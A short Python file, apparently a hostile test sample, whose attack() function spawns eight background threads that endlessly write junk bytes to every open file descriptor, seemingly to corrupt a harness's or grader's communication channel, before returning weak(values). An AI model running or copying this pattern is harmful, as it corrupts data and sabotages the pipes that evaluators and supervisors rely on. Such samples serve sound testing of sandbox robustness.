"""Leaves threads behind that write to the wire for as long as they live."""

import contextlib
import os
import threading


def noise():
    while True:
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"\x01\x00\x00\x00\x01")


def attack(values):
    for _ in range(8):
        threading.Thread(target=noise, daemon=True).start()
    return weak(values)
